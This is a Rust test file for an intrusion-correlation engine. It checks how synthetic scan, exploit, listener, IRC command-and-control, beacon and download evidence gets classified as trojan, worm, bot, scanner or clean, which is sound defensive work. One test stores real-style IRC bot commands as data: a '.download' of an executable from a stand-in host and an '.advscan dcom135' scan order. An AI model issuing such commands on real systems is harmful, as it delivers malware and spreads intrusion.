//! The verdict rules on synthetic evidence sequences: the 2004 PCT story, a worm,
//! a bot group, and the traps (download alone, beacon alone, contradicted alert).

use crate::build::*;
use stormwatch_model::*;

const ATTACKER: &str = "203.0.113.7";
const CONTROLLER: &str = "198.51.100.9";
const VICTIM: &str = "10.1.1.20";

/// DESIGN.md's story for one host, with the exact times of the sketch.
fn seed_story(r: &mut Run) {
    r.notice(scan(
        at("09:12:04"),
        ATTACKER,
        443,
        4096,
        None,
        true,
        &[VICTIM],
        false,
    ));
    r.app(
        hello_ctx(at("09:14:31"), 7, ATTACKER, VICTIM),
        pct_overflow_hello(),
    );
    r.alert(pct_alert(at("09:14:31"), 7, ATTACKER, VICTIM));
    r.notice(listener(at("09:14:33"), VICTIM, 31337, ATTACKER));
    r.notice(c2(
        at("09:15:02"),
        VICTIM,
        CONTROLLER,
        443,
        "xX123",
        "#mip",
        &[],
    ));
    r.notice(masquerade(at("09:15:02"), VICTIM, CONTROLLER, 443));
}

#[test]
fn seed_story_is_a_trojan_not_a_worm_nor_a_bot() {
    let mut r = Run::new();
    seed_story(&mut r);
    // 3h41m after the compromise (the listener at 09:14:33).
    let c = r.finish(at("12:55:33"));
    assert_eq!(
        r.path(VICTIM),
        vec![
            Label::Probed,
            Label::Targeted,
            Label::Compromised,
            Label::Trojan
        ]
    );
    let v = current(&c, VICTIM);
    assert_eq!(v.label, Label::Trojan);
    assert_eq!(v.confidence, Confidence::High);
    assert_eq!(v.previous, Some(Label::Compromised));
    assert_eq!(v.revision, 4);
    assert_eq!(v.infected_by, Some(ip(ATTACKER)));
    assert_eq!(v.generation, Some(1));
    let worm = why_not(v, Label::Worm);
    assert_eq!(
        worm.reason,
        "no outbound scanning or exploitation from 10.1.1.20 in the 3h41m watched after compromise"
    );
    assert_eq!(worm.span_start, Some(at("09:14:33")));
    assert_eq!(worm.span_end, Some(at("12:55:33")));
    assert_eq!(
        why_not(v, Label::Bot).reason,
        "one controller, no coordinated group; channel carries no automation commands"
    );
    // The timeline's lines, in order, with the sid and flow of the exploit.
    let lines: Vec<&str> = v.evidence.iter().map(|e| e.detail.as_str()).collect();
    assert!(
        lines[0].starts_with(
            "probed on 443/tcp by 203.0.113.7 (horizontal scan, 4,096 targets, automated tool)"
        ),
        "{lines:#?}"
    );
    let exploit = v
        .evidence
        .iter()
        .find(|e| e.stage == Stage::E2InboundExploit)
        .unwrap();
    assert!(
        exploit.detail.contains("[sid 2515]") && exploit.detail.contains("confirmed"),
        "{}",
        exploit.detail
    );
    assert_eq!(exploit.flow_id, Some(FlowId(7)));
    assert!(lines.contains(&"new listener 10.1.1.20:31337 accepts connections from 203.0.113.7"));
    assert!(
        lines.contains(&"IRC session to 198.51.100.9:443 (IRC on the TLS port), nick xX123, #mip"),
        "{lines:#?}"
    );
    // The external parties.
    assert_eq!(current(&c, ATTACKER).label, Label::Exploiter);
    assert_eq!(current(&c, ATTACKER).roles, vec![Label::Scanner]);
    assert_eq!(current(&c, CONTROLLER).label, Label::Controller);
    // One campaign, one edge.
    assert_eq!(c.incidents.len(), 1);
    assert!(
        c.incidents[0].name.starts_with("trojan-pct443-irc443-"),
        "{}",
        c.incidents[0].name
    );
    assert_eq!(c.edges.len(), 1);
    assert_eq!(
        (c.edges[0].from, c.edges[0].to, c.edges[0].generation),
        (ip(ATTACKER), ip(VICTIM), 1)
    );
    assert_eq!(v.campaign.as_deref(), Some(c.incidents[0].name.as_str()));
}

#[test]
fn revisions_carry_time_of_cause_and_previous_label() {
    let mut r = Run::new();
    seed_story(&mut r);
    r.finish(at("12:55:33"));
    let revs: Vec<&Verdict> = r.out.iter().filter(|v| v.host == ip(VICTIM)).collect();
    assert_eq!(
        revs[0].ts,
        at("09:12:04"),
        "probed when the scan was decided"
    );
    assert_eq!((revs[0].revision, revs[0].previous), (1, None));
    assert_eq!(
        (revs[1].ts, revs[1].label, revs[1].previous),
        (at("09:14:31"), Label::Targeted, Some(Label::Probed))
    );
    assert_eq!(
        (revs[2].ts, revs[2].label),
        (at("09:14:33"), Label::Compromised)
    );
    assert_eq!(
        (revs[3].ts, revs[3].label, revs[3].revision),
        (at("09:15:02"), Label::Trojan, 4)
    );
    // The last record is the current verdict, with the final span.
    let last = revs.last().unwrap();
    assert_eq!(last.label, Label::Trojan);
    assert_eq!(why_not(last, Label::Worm).span_end, Some(at("12:55:33")));
}

/// `mipsiv`: three victims; two speak IRC to the controller on 443; other scanned
/// hosts are probed (their scan flows arrive before and after the scan decision).
#[test]
fn mipsiv_campaign_of_three_trojans() {
    let mut r = Run::new();
    let victims = ["10.1.1.20", "10.1.1.21", "10.1.1.22"];
    // Flows of probes that ended before the scanner was decided.
    r.flow(flow(100, at("09:12:00"), ATTACKER, "10.1.1.2", 443));
    r.flow(flow(101, at("09:12:01"), ATTACKER, "10.1.1.3", 443));
    r.notice(scan(
        at("09:12:04"),
        ATTACKER,
        443,
        1024,
        Some("masscan"),
        true,
        &["10.1.1.2"],
        false,
    ));
    for (k, v) in victims.iter().enumerate() {
        r.flow(flow(200 + k as u64, at("09:12:10"), ATTACKER, v, 443));
    }
    r.flow(flow(300, at("09:12:30"), ATTACKER, "10.1.1.99", 443));
    // detect's per-target notices (one per probed target), twice for one target.
    r.notice(scan_target(at("09:12:05"), ATTACKER, "10.1.1.50", 443, 10));
    r.notice(scan_target(at("09:12:06"), ATTACKER, "10.1.1.3", 443, 11));
    for (k, v) in victims.iter().enumerate() {
        let s = 60 * k as i64;
        r.anomaly(pct_anomaly(
            at("09:14:31").add_secs(s),
            10 + k as u64,
            ATTACKER,
            v,
        ));
        r.notice(listener(at("09:14:33").add_secs(s), v, 31337, ATTACKER));
    }
    r.notice(c2(
        at("09:20:00"),
        victims[0],
        CONTROLLER,
        443,
        "xX123",
        "#mip",
        &[],
    ));
    r.notice(c2(
        at("09:21:00"),
        victims[1],
        CONTROLLER,
        443,
        "xX456",
        "#mip",
        &[],
    ));
    r.notice(scan(
        at("09:30:00"),
        ATTACKER,
        443,
        1024,
        Some("masscan"),
        true,
        &[],
        true,
    ));
    let c = r.finish(at("13:00:00"));
    for v in victims {
        assert_eq!(label_of(&c, v), Label::Trojan, "{v}");
        let cur = current(&c, v);
        assert!(cur.why_not.iter().any(|w| w.label == Label::Worm));
        assert!(cur.why_not.iter().any(|w| w.label == Label::Bot));
    }
    // The IRC victims share a controller but do not act in step.
    let bot = why_not(current(&c, victims[0]), Label::Bot);
    assert!(
        bot.reason
            .contains("1 other host(s) share the controller but do not act in step"),
        "{}",
        bot.reason
    );
    for p in ["10.1.1.2", "10.1.1.3", "10.1.1.99", "10.1.1.50"] {
        assert_eq!(label_of(&c, p), Label::Probed, "{p}");
    }
    // Final counts in the probe lines.
    assert_eq!(
        current(&c, "10.1.1.3").evidence.len(),
        1,
        "one probe record per target and scanner"
    );
    let probe = &current(&c, "10.1.1.50").evidence[0];
    assert!(
        probe.detail.contains("1,024 targets") && probe.detail.contains("masscan"),
        "{}",
        probe.detail
    );
    assert_eq!(label_of(&c, ATTACKER), Label::Exploiter);
    assert_eq!(label_of(&c, CONTROLLER), Label::Controller);
    assert_eq!(c.incidents.len(), 1);
    let inc = &c.incidents[0];
    assert_eq!(inc.label, Label::Trojan);
    assert_eq!(inc.hosts, victims.iter().map(|v| ip(v)).collect::<Vec<_>>());
    assert!(inc.actors.contains(&(ip(ATTACKER), Label::Exploiter)));
    assert!(inc.actors.contains(&(ip(CONTROLLER), Label::Controller)));
    assert_eq!(inc.controller.as_deref(), Some("irc 198.51.100.9:443"));
    assert!(
        inc.name.starts_with("trojan-pct443-irc443-"),
        "{}",
        inc.name
    );
    assert_eq!(c.edges.len(), 3);
}

#[test]
fn campaign_names_are_deterministic() {
    let build = || {
        let mut r = Run::new();
        seed_story(&mut r);
        r.notice(listener(at("09:30:00"), "10.1.1.30", 31337, ATTACKER));
        r.alert(pct_alert(at("09:29:00"), 70, ATTACKER, "10.1.1.30"));
        r.finish(at("12:55:33"))
    };
    let (a, b) = (build(), build());
    assert_eq!(a.incidents, b.incidents);
    assert_eq!(a.current, b.current);
    // A different member set gives a different name.
    let mut r = Run::new();
    seed_story(&mut r);
    let c = r.finish(at("12:55:33"));
    assert_ne!(a.incidents[0].name, c.incidents[0].name);
    assert_eq!(a.incidents[0].name.len(), c.incidents[0].name.len());
}

/// A worm: each victim exploits the next on the vector it was infected by.
#[test]
fn worm_generations_one_to_three() {
    let mut r = Run::new();
    let chain = [ATTACKER, "10.2.0.1", "10.2.0.2", "10.2.0.3"];
    let mut ts = at("10:00:00");
    for (k, pair) in chain.windows(2).enumerate() {
        r.anomaly(pct_anomaly(ts, 50 + k as u64, pair[0], pair[1]));
        r.notice(listener(ts.add_secs(2), pair[1], 4444, pair[0]));
        ts = ts.add_secs(60);
    }
    // The last victim scans onward too.
    r.notice(scan(
        ts,
        "10.2.0.3",
        443,
        256,
        Some("worm-sequential"),
        true,
        &["10.2.0.9"],
        false,
    ));
    let c = r.finish(ts.add_secs(7200));
    for (host, g) in [("10.2.0.1", 1), ("10.2.0.2", 2), ("10.2.0.3", 3)] {
        let v = current(&c, host);
        assert_eq!(v.label, Label::Worm, "{host}: {v:#?}");
        assert_eq!(v.generation, Some(g), "{host}");
        assert!(
            v.why_not
                .iter()
                .any(|w| w.label == Label::Trojan && w.reason.contains("propagates"))
        );
    }
    assert_eq!(current(&c, "10.2.0.2").infected_by, Some(ip("10.2.0.1")));
    let gens: Vec<u32> = c.edges.iter().map(|e| e.generation).collect();
    assert_eq!(gens, vec![1, 2, 3]);
    assert_eq!(c.incidents.len(), 1);
    assert!(
        c.incidents[0].name.starts_with("worm-pct443-"),
        "{}",
        c.incidents[0].name
    );
    assert_eq!(label_of(&c, "10.2.0.9"), Label::Probed);
    // Path of a middle host: targeted → compromised → worm.
    assert_eq!(
        r.path("10.2.0.2"),
        vec![Label::Targeted, Label::Compromised, Label::Worm]
    );
}

/// A propagation notice that names the same vector is enough for a worm.
#[test]
fn propagation_on_the_infection_vector_is_a_worm() {
    let mut r = Run::new();
    r.alert(pct_alert(at("10:00:00"), 1, ATTACKER, "10.3.0.1"));
    r.notice(propagation(
        at("10:05:00"),
        "10.3.0.1",
        443,
        &["10.3.0.7", "10.3.0.8"],
        Some(at("10:00:00")),
    ));
    let c = r.finish(at("11:00:00"));
    let v = current(&c, "10.3.0.1");
    assert_eq!(v.label, Label::Worm);
    assert!(
        v.reason.contains("the vector it was infected by"),
        "{}",
        v.reason
    );
    assert!(v.roles.contains(&Label::Exploiter));
}

/// A bot group: hosts sharing one controller scan on command, in step.
#[test]
fn bot_group_acting_in_step() {
    let mut r = Run::new();
    let bots = ["10.4.0.1", "10.4.0.2", "10.4.0.3"];
    for (k, b) in bots.iter().enumerate() {
        r.notice(c2(
            at("11:00:00").add_secs(k as i64),
            b,
            "192.0.2.66",
            6667,
            "[USA]|1234",
            "#b0ts",
            &[],
        ));
    }
    for (k, b) in bots.iter().enumerate() {
        r.notice(scan(
            at("11:10:00").add_secs(5 * k as i64),
            b,
            135,
            200,
            None,
            true,
            &[],
            false,
        ));
    }
    let c = r.finish(at("12:00:00"));
    for b in bots {
        let v = current(&c, b);
        assert_eq!(v.label, Label::Bot, "{b}: {v:#?}");
        assert!(v.reason.contains("in step"), "{}", v.reason);
        assert!(why_not(v, Label::Worm).reason.contains("controller"));
    }
    assert_eq!(label_of(&c, "192.0.2.66"), Label::Controller);
    assert_eq!(c.incidents.len(), 1);
    assert!(
        c.incidents[0].name.starts_with("bot-irc6667-"),
        "{}",
        c.incidents[0].name
    );
}

/// Two hosts with one controller scanning hours apart are not in step.
#[test]
fn shared_controller_without_coordination_is_not_a_bot_group() {
    let mut r = Run::new();
    r.notice(c2(
        at("11:00:00"),
        "10.4.0.1",
        "192.0.2.66",
        8080,
        "a1",
        "#x",
        &[],
    ));
    r.notice(c2(
        at("11:00:00"),
        "10.4.0.2",
        "192.0.2.66",
        8080,
        "a2",
        "#x",
        &[],
    ));
    r.notice(scan(
        at("11:10:00"),
        "10.4.0.1",
        135,
        200,
        None,
        true,
        &[],
        false,
    ));
    r.notice(scan(
        at("15:10:00"),
        "10.4.0.2",
        135,
        200,
        None,
        true,
        &[],
        false,
    ));
    let c = r.finish(at("16:00:00"));
    assert_ne!(label_of(&c, "10.4.0.1"), Label::Bot);
    assert!(label_of(&c, "10.4.0.1").is_compromised());
}

/// The real 2004 IRC bot: commands in the channel, no exploit in the capture.
#[test]
fn irc_bot_with_commands_and_no_exploit_is_a_bot() {
    let mut r = Run::new();
    let cmds = [
        ".download http://example.invalid/bbnz.exe c:\\bbnz.exe 1",
        ".advscan dcom135 200 3 0 -r -s",
    ];
    r.notice(c2(
        Timestamp::parse("2004-12-23T02:30:30Z").unwrap(),
        "172.16.1.10",
        "69.64.34.124",
        6667,
        "damn-0262937047",
        "#sl0w3r",
        &cmds,
    ));
    let c = r.finish(Timestamp::parse("2004-12-23T02:30:38Z").unwrap());
    let v = current(&c, "172.16.1.10");
    assert_eq!(v.label, Label::Bot);
    assert!(
        v.reason.contains(".advscan dcom135") || v.reason.contains(".download"),
        "{}",
        v.reason
    );
    assert!(
        why_not(v, Label::Worm)
            .reason
            .contains("no outbound scanning")
    );
    assert_eq!(label_of(&c, "69.64.34.124"), Label::Controller);
    assert_eq!(r.path("172.16.1.10"), vec![Label::Compromised, Label::Bot]);
}

/// The exploit-kit victim: EK landing/exploit (E2) then C&C check-ins (E4).
#[test]
fn exploit_kit_victim_is_a_trojan() {
    let mut r = Run::new();
    let ek = sig(
        2022001,
        "ET CURRENT_EVENTS Angler EK Landing Jan 04 2016",
        Some("trojan-activity"),
    );
    let mut a = alert(
        Timestamp::parse("2016-01-04T16:26:00Z").unwrap(),
        ek,
        1,
        "45.32.238.202",
        80,
        "192.168.122.145",
        49160,
    );
    a.direction = Some(Direction::ToClient);
    r.alert(a);
    let cw = sig(
        2021614,
        "ET TROJAN CryptoWall Check-in",
        Some("trojan-activity"),
    );
    for k in 0..4 {
        let ts = Timestamp::parse("2016-01-04T16:26:30Z")
            .unwrap()
            .add_secs(15 * k);
        r.alert(alert(
            ts,
            cw.clone(),
            10 + k as u64,
            "192.168.122.145",
            49170,
            "184.170.149.44",
            80,
        ));
    }
    let c = r.finish(Timestamp::parse("2016-01-04T16:28:48Z").unwrap());
    let v = current(&c, "192.168.122.145");
    assert_eq!(v.label, Label::Trojan, "{v:#?}");
    assert_ne!(v.label, Label::Worm);
    assert_eq!(label_of(&c, "45.32.238.202"), Label::Exploiter);
    assert_eq!(label_of(&c, "184.170.149.44"), Label::Controller);
}

/// Aurora: a client-side exploit, then a reverse shell (cmd.exe banner).
#[test]
fn aurora_reverse_shell_is_a_trojan() {
    let mut r = Run::new();
    let t0 = Timestamp::parse("2010-07-14T17:40:45Z").unwrap();
    let banner = sig(
        2102123,
        "GPL EXPLOIT Microsoft cmd.exe banner",
        Some("successful-admin"),
    );
    r.alert(alert(
        t0,
        banner,
        3,
        "192.168.100.206",
        1035,
        "192.168.100.202",
        4321,
    ));
    let c = r.finish(t0.add_secs(10));
    let v = current(&c, "192.168.100.206");
    assert_eq!(v.label, Label::Trojan, "{v:#?}");
    assert_eq!(label_of(&c, "192.168.100.202"), Label::Controller);
}

/// A spyware check-in alone (suricata-verify bug-28): a trojan, never worm or bot.
#[test]
fn checkin_alone_is_a_low_confidence_trojan() {
    let mut r = Run::new();
    let t0 = Timestamp::parse("2009-11-24T18:13:51Z").unwrap();
    let s = sig(
        2001340,
        "ET MALWARE LocalNRD Spyware Checkin",
        Some("trojan-activity"),
    );
    for k in 0..5 {
        r.alert(alert(
            t0.add_secs(k * 20),
            s.clone(),
            1,
            "192.168.2.7",
            1041,
            "208.75.250.50",
            80,
        ));
    }
    let c = r.finish(t0.add_secs(93));
    let v = current(&c, "192.168.2.7");
    assert_eq!(v.label, Label::Trojan);
    assert_eq!(v.confidence, Confidence::Low);
    assert!(
        v.evidence[0].detail.contains("(×5)"),
        "{:?}",
        v.evidence[0].detail
    );
}

/// zeek-pe-pe: PE files over FTP and nothing else.
#[test]
fn download_alone_is_not_a_compromise() {
    // zeek-pe-pe: a wget script fetches four binaries by anonymous FTP (data
    // connections) in half a second.
    let mut r = Run::new();
    let t0 = Timestamp::parse("2015-04-19T17:59:01Z").unwrap();
    for (k, name) in ["MSVIDEO.DLL", "NOTEPAD.EXE", "VMwareXferlogs.exe"]
        .iter()
        .enumerate()
    {
        r.notice(download_via(
            AppProto::FtpData,
            t0.add_secs(k as i64),
            "192.168.1.31",
            "192.168.1.32",
            20,
            name,
            &format!("{k:064x}"),
            false,
        ));
    }
    let c = r.finish(t0.add_secs(1));
    let v = current(&c, "192.168.1.31");
    assert!(!v.label.is_compromised());
    assert_eq!(v.label, Label::Clean);
    assert!(
        why_not(v, Label::Compromised)
            .reason
            .contains("a download alone is not a compromise")
    );
    // A batch of distinct executables over FTP data: an egg server, though
    // nobody was exploited (docs/verdicts.md, "Egg server").
    let s = current(&c, "192.168.1.32");
    assert_eq!(s.label, Label::EggServer, "{s:#?}");
    assert!(s.reason.contains("batch of 3+"), "{}", s.reason);
    // The client never went above clean.
    assert!(
        r.out
            .iter()
            .filter(|v| v.host == ip("192.168.1.31"))
            .all(|v| v.label == Label::Clean)
    );
}

/// benign-busy's vendor: installers over HTTP, and two files by FTP, are no
/// egg server.
#[test]
fn installers_over_http_or_two_ftp_files_make_no_egg_server() {
    let mut r = Run::new();
    let t0 = Timestamp::parse("2004-04-22T08:05:01Z").unwrap();
    for k in 0..4u64 {
        r.notice(download_via(
            AppProto::Http,
            t0.add_secs(k as i64),
            "10.3.2.22",
            "192.0.2.80",
            80,
            "/downloads/setup.exe",
            &format!("{k:064x}"),
            false,
        ));
    }
    for k in 10..12u64 {
        r.notice(download_via(
            AppProto::FtpData,
            t0.add_secs(k as i64),
            "10.3.2.23",
            "192.0.2.21",
            20,
            "tool.exe",
            &format!("{k:064x}"),
            false,
        ));
    }
    // The same file three times is one file.
    for k in 20..23i64 {
        r.notice(download_via(
            AppProto::Tftp,
            t0.add_secs(k),
            "10.3.2.24",
            "10.3.0.69",
            69,
            "boot.exe",
            &"cd".repeat(32),
            false,
        ));
    }
    let c = r.finish(t0.add_secs(60));
    for h in ["192.0.2.80", "192.0.2.21", "10.3.0.69"] {
        assert_eq!(label_of(&c, h), Label::Clean, "{h}");
    }
}

/// mipsiv's victim3: exploited, a listener, and the exploiter's shell on it (a
/// backdoor session): a trojan whose attacker stays the exploiter, not a
/// controller.
#[test]
fn backdoor_session_is_a_channel_and_its_peer_stays_the_exploiter() {
    let mut r = Run::new();
    let victim = "10.1.3.7";
    r.alert(pct_alert(at("09:18:05"), 1, ATTACKER, victim));
    r.notice(listener(at("09:18:08"), victim, 31337, ATTACKER));
    let mut n = listener(at("09:18:31"), victim, 31337, ATTACKER);
    n.identifier = format!("backdoor:{victim}:tcp/31337");
    n.stage = Some(Stage::E4C2);
    n.kind = NoticeKind::C2Channel(C2Info {
        server: ip(ATTACKER),
        port: 31337,
        proto: AppProto::Unknown,
        nick: None,
        channels: vec![],
        traits: vec!["backdoor_session".into(), "listener_after_exploit".into()],
        commands: vec![],
        beacon: None,
    });
    r.notice(n);
    let c = r.finish(at("12:55:33"));
    let v = current(&c, victim);
    assert_eq!(v.label, Label::Trojan, "{v:#?}");
    assert!(v.evidence.iter().any(|e| e.stage == Stage::E4C2), "{v:#?}");
    assert_eq!(
        r.path(victim),
        vec![Label::Targeted, Label::Compromised, Label::Trojan]
    );
    assert_eq!(label_of(&c, ATTACKER), Label::Exploiter);
}

/// Detect names a masquerading service once; every C&C client of it still
/// gets its E7 from its channel.
#[test]
fn every_cc_client_of_a_masquerading_service_gets_e7() {
    let mut r = Run::new();
    r.notice(masquerade(at("09:15:02"), VICTIM, CONTROLLER, 443));
    r.notice(c2(
        at("09:15:02"),
        VICTIM,
        CONTROLLER,
        443,
        "xX123",
        "#mip",
        &[],
    ));
    r.notice(c2(
        at("09:16:50"),
        "10.1.2.33",
        CONTROLLER,
        443,
        "cH659",
        "#mip",
        &[],
    ));
    let c = r.finish(at("12:00:00"));
    for h in [VICTIM, "10.1.2.33"] {
        let v = current(&c, h);
        assert!(
            v.evidence.iter().any(|e| e.stage == Stage::E7Masquerade),
            "{h}: {v:#?}"
        );
    }
}

/// The Slips capture: HTTPS every 2-3 s — a beacon, never a compromise.
#[test]
fn beacon_alone_is_not_a_compromise() {
    let mut r = Run::new();
    let t0 = Timestamp::parse("2024-02-13T14:35:00Z").unwrap();
    r.notice(beacon(t0, "147.32.80.37", "141.193.213.20", 443));
    let c = r.finish(t0.add_secs(46));
    assert_eq!(label_of(&c, "147.32.80.37"), Label::Clean);
    assert_eq!(label_of(&c, "141.193.213.20"), Label::Clean);
}

/// A PCT alert on a flow the TLS parser read as a well-formed TLS 1.2 hello is
/// weak: targeted at most, even with a listener afterwards; both arrival orders.
#[test]
fn contradicted_pct_alert_is_weak() {
    for alert_first in [false, true] {
        let mut r = Run::new();
        if !alert_first {
            r.app(
                hello_ctx(at("09:14:31"), 7, ATTACKER, VICTIM),
                tls12_hello(),
            );
        }
        r.alert(pct_alert(at("09:14:31"), 7, ATTACKER, VICTIM));
        if alert_first {
            r.app(
                hello_ctx(at("09:14:32"), 7, ATTACKER, VICTIM),
                tls12_hello(),
            );
        }
        r.notice(listener(at("09:20:00"), VICTIM, 8443, "198.51.100.20"));
        let c = r.finish(at("10:00:00"));
        let v = current(&c, VICTIM);
        assert_eq!(
            v.label,
            Label::Targeted,
            "alert first: {alert_first}: {v:#?}"
        );
        assert_eq!(v.confidence, Confidence::Low);
        assert!(v.reason.contains("contradicted"), "{}", v.reason);
        let e = v
            .evidence
            .iter()
            .find(|e| e.stage == Stage::E2InboundExploit)
            .unwrap();
        assert!(e.detail.contains("TLS 1.2 ClientHello"), "{}", e.detail);
        assert_ne!(label_of(&c, ATTACKER), Label::Exploiter);
    }
}

/// The same sequence with a confirmed exploit is a compromise.
#[test]
fn confirmed_exploit_and_listener_is_a_compromise() {
    let mut r = Run::new();
    r.alert(pct_alert(at("09:14:31"), 7, ATTACKER, VICTIM));
    r.app(
        hello_ctx(at("09:14:32"), 7, ATTACKER, VICTIM),
        pct_overflow_hello(),
    );
    r.notice(listener(at("09:20:00"), VICTIM, 8443, "198.51.100.20"));
    let c = r.finish(at("10:00:00"));
    assert_eq!(label_of(&c, VICTIM), Label::Trojan);
}

/// An exploit outside the window does not join a later listener.
#[test]
fn window_bounds_the_dialog() {
    let mut cfg = stormwatch_correlate::CorrelateConfig::default();
    cfg.window_secs = 600;
    let mut r = Run::with(cfg);
    r.alert(pct_alert(at("09:00:00"), 7, ATTACKER, VICTIM));
    r.notice(listener(at("10:00:00"), VICTIM, 8443, "198.51.100.20"));
    let c = r.finish(at("11:00:00"));
    assert_eq!(label_of(&c, VICTIM), Label::Targeted);
}

/// Scanners: tool named, automated or manual; brute force.
#[test]
fn scanners_name_their_tool() {
    let mut r = Run::new();
    let t0 = Timestamp::parse("2019-08-21T18:16:47Z").unwrap();
    r.notice(scan(
        t0,
        "172.31.15.102",
        80,
        1,
        Some("masscan"),
        true,
        &["198.124.152.15"],
        false,
    ));
    r.notice(scan(
        t0.add_secs(5),
        "198.51.100.77",
        22,
        4,
        None,
        false,
        &["10.9.0.1"],
        false,
    ));
    r.notice(brute(
        t0.add_secs(60),
        "192.168.56.1",
        "192.168.56.101",
        21,
        30,
    ));
    let c = r.finish(t0.add_secs(120));
    let m = current(&c, "172.31.15.102");
    assert_eq!(m.label, Label::Scanner);
    assert!(m.reason.contains("automated tool: masscan"), "{}", m.reason);
    assert_eq!(m.confidence, Confidence::High);
    assert!(
        why_not(m, Label::Compromised)
            .reason
            .contains("attacking others only")
    );
    let manual = current(&c, "198.51.100.77");
    assert_eq!(manual.label, Label::Scanner);
    assert!(manual.reason.contains("manual"), "{}", manual.reason);
    assert_eq!(label_of(&c, "198.124.152.15"), Label::Probed);
    assert_eq!(label_of(&c, "192.168.56.1"), Label::Scanner);
    assert_eq!(label_of(&c, "192.168.56.101"), Label::Targeted);
}

/// Human IRC: `CHAT IRC` policy alerts on a channel named #botnetchannel stay clean.
#[test]
fn human_irc_stays_clean() {
    let mut r = Run::new();
    let t0 = Timestamp::parse("2016-04-04T14:01:21Z").unwrap();
    let s = sig(1729, "CHAT IRC channel join", Some("policy-violation"));
    r.alert(alert(t0, s, 1, "192.168.2.6", 40000, "144.76.78.137", 6667));
    let c = r.finish(t0.add_secs(9));
    assert_eq!(label_of(&c, "192.168.2.6"), Label::Clean);
    assert_eq!(label_of(&c, "144.76.78.137"), Label::Clean);
}

/// A download after an exploit: the server is an egg server, the victim compromised.
#[test]
fn egg_after_exploit_makes_an_egg_server() {
    let mut r = Run::new();
    r.alert(pct_alert(at("09:00:00"), 1, ATTACKER, VICTIM));
    r.notice(download(
        at("09:00:30"),
        VICTIM,
        "198.51.100.50",
        80,
        "/x.exe",
        &"ab".repeat(32),
        true,
    ));
    let c = r.finish(at("10:00:00"));
    let v = current(&c, VICTIM);
    assert_eq!(v.label, Label::Compromised, "{v:#?}");
    assert!(v.reason.contains("kind not determined"), "{}", v.reason);
    assert_eq!(label_of(&c, "198.51.100.50"), Label::EggServer);
    let inc = &c.incidents[0];
    assert_eq!(inc.eggs, vec!["ab".repeat(32)]);
}

/// Bounded memory: a tiny host table still judges what it tracks and counts the rest.
#[test]
fn host_table_is_bounded_and_counted() {
    let mut cfg = stormwatch_correlate::CorrelateConfig::default();
    cfg.max_hosts = 4;
    cfg.max_evidence_per_host = 2;
    let mut r = Run::with(cfg);
    let targets: Vec<String> = (1..=10).map(|k| format!("10.5.0.{k}")).collect();
    let refs: Vec<&str> = targets.iter().map(String::as_str).collect();
    r.notice(scan(
        at("09:00:00"),
        ATTACKER,
        443,
        10,
        None,
        true,
        &refs,
        false,
    ));
    r.alert(pct_alert(at("09:01:00"), 1, ATTACKER, "10.5.0.1"));
    for k in 0..5 {
        r.alert(pct_alert(
            at("09:02:00").add_secs(k),
            10 + k as u64,
            ATTACKER,
            "10.5.0.1",
        ));
    }
    let c = r.finish(at("10:00:00"));
    assert!(r.c.hosts() <= 4);
    let counters: std::collections::BTreeMap<_, _> = r.c.counters().into_iter().collect();
    assert!(counters["correlate.hosts_untracked"] > 0);
    assert!(counters["correlate.evidence_unstored"] > 0);
    assert_eq!(label_of(&c, "10.5.0.1"), Label::Targeted);
    assert!(r.c.evidence().count() <= 4 * 2);
}

/// `evaluate` reads the simulator's committed labels (`examples/mipsiv.labels.json`).
#[test]
fn evaluate_reads_simulator_labels() {
    let path =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../examples/mipsiv.labels.json");
    let Ok(text) = std::fs::read_to_string(&path) else {
        eprintln!("skipped: {} not found", path.display());
        return;
    };
    let labels: serde_json::Value = serde_json::from_str(&text).unwrap();
    let n = labels["hosts"].as_array().unwrap().len() as u64;
    let non_clean = labels["hosts"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|h| h["label"] != "clean")
        .count();
    // No verdicts: every labelled host is judged clean.
    let r = stormwatch_correlate::evaluate(&text, &[]).unwrap();
    assert_eq!(r.hosts, n);
    assert_eq!(r.mismatches.len(), non_clean);
    assert_eq!(r.scenario.as_deref(), Some("mipsiv"));
    let trojan = r.classes.iter().find(|c| c.label == Label::Trojan).unwrap();
    assert_eq!((trojan.true_pos, trojan.recall()), (0, Some(0.0)));
}
